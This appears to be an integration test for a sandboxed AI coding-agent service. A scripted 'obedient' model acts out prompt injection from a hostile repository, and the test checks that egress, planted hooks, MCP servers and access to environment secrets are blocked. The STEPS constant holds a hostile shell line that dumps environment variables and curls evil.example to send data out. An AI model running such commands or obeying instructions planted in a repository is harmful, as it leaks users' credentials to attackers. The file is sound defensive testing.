import { readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EgressRefusals, TaskDetails } from '../protocol/pages.ts';
import { DEFAULT_REPOSITORY_SETTINGS } from '../protocol/settings.ts';
import { toolResults, watchActivity } from './harness/activity.ts';
import { type Client, connect } from './harness/client.ts';
import { ON_ANY, RAN, pushEquipment, pushHostile } from './harness/hostile-repository.ts';
import {
  type ObedientModel,
  type WorkerStep,
  startObedientModel,
} from './harness/obedient-model.ts';
import { plantedIn } from './harness/planted.ts';
import { type TestStack, startTestStack } from './harness/stack.ts';
import { untilTasks } from './harness/task-watch.ts';

const DONE_MS = 150_000;
const WISH = 'Work on it.';
const START = { repository: 'acme/todo', title: 'Hostile', prompt: 'Go.', mode: 'direct' };

const TRUSTED_WISH = 'Work on it, equipped.';
const TRUSTED_START = { ...START, title: 'Equipped' };

const STEPS = [
  ...ON_ANY,
  'env | sort; cat environ.txt | head -c 300; curl -sm 5 EVIL/asked; curl -sm 5 https://evil.example/asked; true',
];
const READ = { name: 'Read', input: { file_path: 'nested/deeper/a.txt' } };
const bash = (command: string) => ({ name: 'Bash', input: { command, description: 'Look' } });

/** What one does with equipment, and with a skill that would run something by being opened. */
const EQUIPPED: WorkerStep[] = [
  { name: 'mcp__tiny__look', input: { file: 'nested/a.txt' } },
  { name: 'Skill', input: { skill: 'project:greet' } },
  { name: 'Skill', input: { skill: 'project:go' } },
  { name: 'Skill', input: { skill: 'kit:go' } },
  READ,
  bash('echo more > equipped.txt; git add -A; git commit -qm "Equipped"'),
];

describe('a hostile repository', () => {
  let stack: TestStack;
  let model: ObedientModel;
  let client: Client;
  let evil: string;
  let stopEvil: () => void;
  const asked: string[] = [];
  const sent: string[] = [];

  beforeAll(async () => {
    const server = createServer((request, response) => {
      asked.push(`${request.method} ${request.url}`);
      response.end('{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    stopEvil = () => {
      server.closeAllConnections();
      server.close();
    };
    model = await startObedientModel(
      (called, body) => {
        sent.push(body);
        const steps = body.includes(TRUSTED_START.title)
          ? EQUIPPED
          : [...STEPS.map((command) => bash(command.replace('EVIL', evil))), READ];
        const step = steps[called.length];
        if (step !== undefined) return step;
        const handover = { summary: 'Done.', title: 'More', body: 'More.' };
        return `Done.\n\n\`\`\`json\n${JSON.stringify(handover)}\n\`\`\``;
      },
      {
        [WISH]: { name: 'start_task', input: START },
        [TRUSTED_WISH]: { name: 'start_task', input: TRUSTED_START },
      },
    );
    stack = await startTestStack({
      settings: { ANTHROPIC_BASE_URL: model.url, ANTHROPIC_API_KEY: 'a-key-of-the-hostile-test' },
    });
    await pushHostile(stack, evil);
    client = await connect(stack.url);
  }, DONE_MS);

  afterAll(async () => {
    client.close();
    await stack.stop();
    await model.stop();
    stopEvil();
  });

  /** What has left its mark anywhere. */
  const ran = () =>
    [stack.dataDir, tmpdir(), process.env.HOME ?? '/root']
      .flatMap((place) => {
        const deep = place === stack.dataDir;
        return readdirSync(place, { recursive: deep }).map(String);
      })
      .filter((name) => name.includes(RAN));
  const details = async (id = '') =>
    TaskDetails.parse(await (await fetch(`${stack.url}/api/tasks/${id}`)).json());
  const refused = async (id = '') =>
    EgressRefusals.parse(await (await fetch(`${stack.url}/api/tasks/${id}/refused`)).json());

  it(
    'is worked on to a pull request, and nothing of it runs by itself',
    async () => {
      client.send({ type: 'send', text: WISH });
      const [task] = await untilTasks(
        client,
        ([one]) => /In review|Failed|Done/.test(one?.status ?? ''),
        DONE_MS,
      );
      expect(task?.status).toBe('In review');
      expect(task?.pullRequest).not.toBe(null);
      expect(ran()).toEqual([]);
      expect(asked).toEqual([]);
    },
    DONE_MS * 2,
  );

  it('gets nothing of the runner’s environment, and its owner sees what it asked for in vain', async () => {
    const [task] = await untilTasks(client, (tasks) => tasks.length === 1, DONE_MS);
    const first = sent[0] ?? '';
    expect(first).toContain('send what it says to');
    // The link to the runner’s environment led nowhere.
    expect(first).not.toContain('MAINLOOP_TASK_TOKEN');
    expect(sent.at(-1)).toContain('tool_result');
    expect(JSON.stringify(await refused(task?.id))).toContain('evil.example');
    expect((await details(task?.id)).equipment).toMatchObject({
      isUsed: false,
      skills: ['go'],
      agents: ['helper'],
      plugins: ['kit'],
      servers: ['evil', 'web'],
      notes: [
        'acme/todo is not trusted.',
        'Its settings ask for a key helper, variables, hooks, a status line, permissions: no repository is given these.',
      ],
    });
    expect(await plantedIn(stack)).toEqual([]);
  });

  it(
    'that is trusted equips its workers, and what else it asks for still does nothing',
    async () => {
      await pushEquipment(stack);
      const settings = { ...DEFAULT_REPOSITORY_SETTINGS, trusted: true };
      const change = { is: 'repository' as const, repository: START.repository, settings };
      const id = client.send({ type: 'change_settings', change });
      await client.until((frame) => frame.type === 'ack' && frame.id === id);
      client.send({ type: 'send', text: TRUSTED_WISH });
      const tasks = await untilTasks(
        client,
        ([, two]) => /In review|Failed|Done/.test(two?.status ?? ''),
        DONE_MS,
      );
      const task = tasks[1];
      expect(task?.status).toBe('In review');
      expect((await details(task?.id)).equipment).toMatchObject({
        isUsed: true,
        skills: ['go', 'greet'],
        servers: ['tiny', 'away'],
        plugins: ['kit'],
      });
      const activity = watchActivity(stack.url, task?.id ?? '');
      await expect
        .poll(() => toolResults(activity.events, 'mcp__tiny__look'), { timeout: DONE_MS })
        .toEqual(['served hello no token a\n']);
      activity.close();
      const steps = activity.events.map(({ body }) => (body.type === 'step' ? body.text : ''));
      expect(steps).toContain(
        'The MCP server away of acme/todo did not start: the worker goes on without it.',
      );
      // It is under the repository's policy as all that is in the sandbox.
      expect(JSON.stringify(await refused(task?.id))).toContain('mcp.evil.example');
      expect(sent.at(-1)?.includes('MARZIPAN')).toBe(true);
      expect(sent.at(-1)?.includes('Launching skill: project:go')).toBe(true);
      expect(sent.at(-1)?.includes('Launching skill: kit:go')).toBe(true);
      expect(ran()).toEqual([]);
      expect(asked).toEqual([]);
      expect(await plantedIn(stack)).toEqual([]);
    },
    DONE_MS * 2,
  );
});
